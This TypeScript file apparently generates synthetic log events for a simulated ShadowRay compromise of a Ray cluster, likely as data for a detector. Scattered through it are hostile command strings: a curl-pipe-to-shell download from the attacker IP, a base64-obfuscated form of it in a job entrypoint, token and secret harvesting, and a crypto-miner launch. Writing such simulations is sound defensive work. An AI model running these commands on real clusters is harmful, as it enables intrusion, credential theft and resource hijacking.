/**
 * ShadowRay-style compromise (CVE-2023-48022: the Ray Jobs API on an exposed dashboard runs any
 * entrypoint): a job submitted from an address outside the corporate ranges (held out: a `kubectl
 * exec` into the head pod from an unusual address with a stolen kubeconfig), then recon and
 * credential theft with the head pod's service-account token, lateral movement into other
 * workloads, optional persistence, and cryptojacking on the Ray workers' GPUs (SMs and memory
 * pinned, no tensor work, flat power). Head and workers are named `<cluster>-head-0` /
 * `<cluster>-worker-N`, so the token's pod-name, exec targets and DCGM pod labels all key to the
 * Ray cluster's trajectory.
 */
import type { PodInfo, Workload } from '../cluster.js';
import { humanActor, podActor, PYTHON_CLIENT_UA } from '../k8s-identity.js';
import type { CallSpec } from '../k8s-request.js';
import type { Prng } from '../prng.js';
import type { ScenarioContext } from '../scenario-context.js';
import { MINUTE_US } from '../iso-time.js';
import { attackApp, attackCall, attackExec, spreadTimes, type AttackRun } from './attack-run.js';
import { addRayCluster, rayClusterLife } from '../benign-services.js';

export const SHADOWRAY_VARIANTS = {
  inDistribution: ['dashboard-jobs-api'],
  heldOut: ['stolen-kubeconfig-exec'],
} as const;
export type ShadowRayVariant = (typeof SHADOWRAY_VARIANTS.inDistribution)[number] | (typeof SHADOWRAY_VARIANTS.heldOut)[number];

export interface ShadowRayParams {
  variant: ShadowRayVariant;
  startFraction: number;
  stealth: number;
  sourceIP: string;
  workers: number;
  secretProbes: number;
  lateralTargets: number;
  persistence: boolean;
  minerName: string;
}

const EXTERNAL_IPS = ['45.61.{a}.{b}', '185.220.{a}.{b}', '91.92.{a}.{b}', '146.70.{a}.{b}', '5.188.{a}.{b}'];

export function drawShadowRayParams(rng: Prng, variant: ShadowRayVariant = 'dashboard-jobs-api'): ShadowRayParams {
  const stealth = rng.float();
  return {
    variant,
    startFraction: rng.range(0.1, 0.35),
    stealth,
    sourceIP: rng.pick(EXTERNAL_IPS).replace('{a}', String(rng.int(1, 254))).replace('{b}', String(rng.int(1, 254))),
    workers: rng.int(1, 2),
    secretProbes: rng.int(4, 12) - Math.round(stealth * 3),
    lateralTargets: rng.int(1, 4),
    persistence: rng.chance(0.5),
    minerName: rng.pick(['kworker', 'xmrig', 'systemd-journal', 'python3 -m ray.util.metrics', 'nbminer']),
  };
}

export function generateShadowRay(ctx: ScenarioContext, lateral: Workload[], p: ShadowRayParams): { trajectory: string } {
  const rng = ctx.rng.fork('shadowray');
  const ray = addRayCluster(ctx, rng, p.workers);
  const head = ray.pods[0]!;
  const run: AttackRun = { ctx, rng, actor: podActor(head, PYTHON_CLIENT_UA), key: ray.key };
  ctx.timeline.markFamily(ray.key, 'shadowray', p.variant);
  const span = ctx.endUs - ctx.startUs;
  const t0 = ctx.startUs + p.startFraction * span;
  // Until the miner starts, the workers run the cluster's own work.
  const mineAt = t0 + rng.range(0.25, 0.45) * (ctx.endUs - t0);
  rayClusterLife(ctx, rng, ray, mineAt);

  // Initial access.
  const submission = `raysubmit_${rng.chars(16, 'ABCDEFGHIJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz123456789')}`;
  if (p.variant === 'stolen-kubeconfig-exec') {
    const intruder = humanActor({ email: rng.pick(ctx.cluster.oncall).email, group: 'ml-platform-oncall', role: 'ml-oncall', ip: p.sourceIP, userAgent: 'kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9' });
    attackCall(run, { at: t0, verb: 'get', resource: 'pods', namespace: ray.namespace, name: head.name }, 'initial-access', undefined, intruder);
    attackExec(run, t0 + rng.int(5e6, 40e6), head, ['sh', '-c', `curl -fsSL http://${p.sourceIP}:8000/r.sh | sh`], rng.range(1, 8), 'initial-access', undefined, intruder);
  } else {
    attackApp(run, { tsUs: t0, action: 'ray_job_submit', resource: `ray/${ray.name}/jobs/${submission}`, jobId: ray.name, user: 'anonymous', namespace: ray.namespace, details: { submission_id: submission, entrypoint: `python -c "import base64;exec(base64.b64decode('${Buffer.from(`import os;os.system('curl -fsSL http://${p.sourceIP}:8000/r.sh|sh')`).toString('base64')}'))"`, client_addr: p.sourceIP, runtime_env: {} } }, 'initial-access');
    attackApp(run, { tsUs: t0 + rng.int(2e6, 9e6), action: 'ray_job_status', resource: `ray/${ray.name}/jobs/${submission}`, jobId: ray.name, user: 'anonymous', namespace: ray.namespace, details: { submission_id: submission, status: 'RUNNING', client_addr: p.sourceIP } }, 'initial-access');
  }

  // Recon and credential access with the head pod's token.
  let t = t0 + rng.range(30, 120) * 1e6;
  for (const path of ['/api', '/apis', '/version']) attackCall(run, { at: (t += rng.int(20_000, 400_000)), verb: 'get', path }, 'recon');
  const recon: Array<Omit<CallSpec, 'actor' | 'at'>> = [
    { verb: 'create', resource: 'selfsubjectrulesreviews' },
    { verb: 'list', resource: 'namespaces', denied: true },
    { verb: 'list', resource: 'pods', namespace: ray.namespace },
    { verb: 'list', resource: 'pods', denied: true },
    { verb: 'list', resource: 'nodes', denied: true },
  ];
  spreadTimes(rng, t, t + rng.range(1, 3) * MINUTE_US, recon.length).forEach((at, i) => attackCall(run, { ...recon[i]!, at }, 'recon'));
  t += 3.5 * MINUTE_US;
  const namespaces = ['ml-train', 'research-nlp', 'inference', 'data', 'kube-system', 'ci', 'monitoring'];
  const creds: Array<Omit<CallSpec, 'actor' | 'at'>> = [{ verb: 'list', resource: 'secrets', namespace: ray.namespace }, { verb: 'get', resource: 'secrets', namespace: ray.namespace, name: 'ray-head-aws' }];
  for (let i = 0; i < p.secretProbes; i++) {
    creds.push(rng.chance(0.6) ? { verb: 'list', resource: 'secrets', namespace: rng.pick(namespaces), denied: rng.chance(0.8) } : { verb: 'get', resource: 'secrets', namespace: rng.pick(namespaces), name: rng.pick(['aws-credentials', 'hf-token', 'wandb-api-key', 'gcs-sa-key']), denied: rng.chance(0.7) });
  }
  creds.push({ verb: 'create', resource: 'serviceaccounts', namespace: ray.namespace, name: ray.serviceAccount, subresource: 'token' });
  const ct = spreadTimes(rng, t, t + rng.range(2, 5) * MINUTE_US, creds.length);
  creds.forEach((s, i) => attackCall(run, { ...s, at: ct[i]! }, 'credential-access'));
  t = ct[ct.length - 1]! + 20e6;

  // Lateral movement: exec into reachable pods of other workloads.
  const targets = rng.shuffle(lateral.filter((w) => w.pods.length > 0)).slice(0, p.lateralTargets);
  for (const w of targets) {
    const pod: PodInfo = w.pods[0]!;
    const denied = w.namespace !== ray.namespace && rng.chance(0.5);
    t += rng.range(20, 90) * 1e6;
    if (denied) attackCall(run, { at: t, verb: 'create', resource: 'pods', namespace: pod.namespace, name: pod.name, subresource: 'exec', denied: true }, 'lateral-movement');
    else attackExec(run, t, pod, ['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token; env | grep -i -E "key|token|secret"'], rng.range(0.3, 2), 'lateral-movement');
  }

  // Impact: the miner on every worker GPU for the rest of the window.
  const throttled = p.variant === 'stolen-kubeconfig-exec';
  for (const w of ray.pods.slice(1)) {
    if (!w.gpu) continue;
    ctx.timeline.gpu.allocate(w.gpu, { startUs: mineAt, endUs: ctx.endUs + MINUTE_US, namespace: ray.namespace, pod: w.name, container: 'ray-worker', load: throttled ? 'mining-throttled' : 'mining', fbMiB: rng.int(2_400, 5_200), nvlinkPeers: false });
    ctx.timeline.gpuWindows.push({ device: w.gpu, startUs: mineAt, endUs: ctx.endUs, trajectory: ray.key, phase: 'impact' });
    attackExec(run, mineAt - rng.int(2e6, 20e6), w, ['sh', '-c', `nohup /tmp/.x/${p.minerName.split(' ')[0]} --donate-level 0 -o stratum+tcp://${p.sourceIP}:3333 >/dev/null 2>&1 &`], rng.range(0.2, 1), 'impact');
  }
  if (p.persistence) {
    const name = rng.pick(['ray-log-rotate', 'ray-gc', 'node-cache-clean']);
    attackCall(run, { at: mineAt + rng.range(1, 5) * MINUTE_US, verb: 'create', resource: 'cronjobs', namespace: ray.namespace, name, body: { kind: 'CronJob', apiVersion: 'batch/v1', metadata: { name, namespace: ray.namespace }, spec: { schedule: '*/15 * * * *' } } }, 'persistence');
  }
  return { trajectory: ray.key };
}
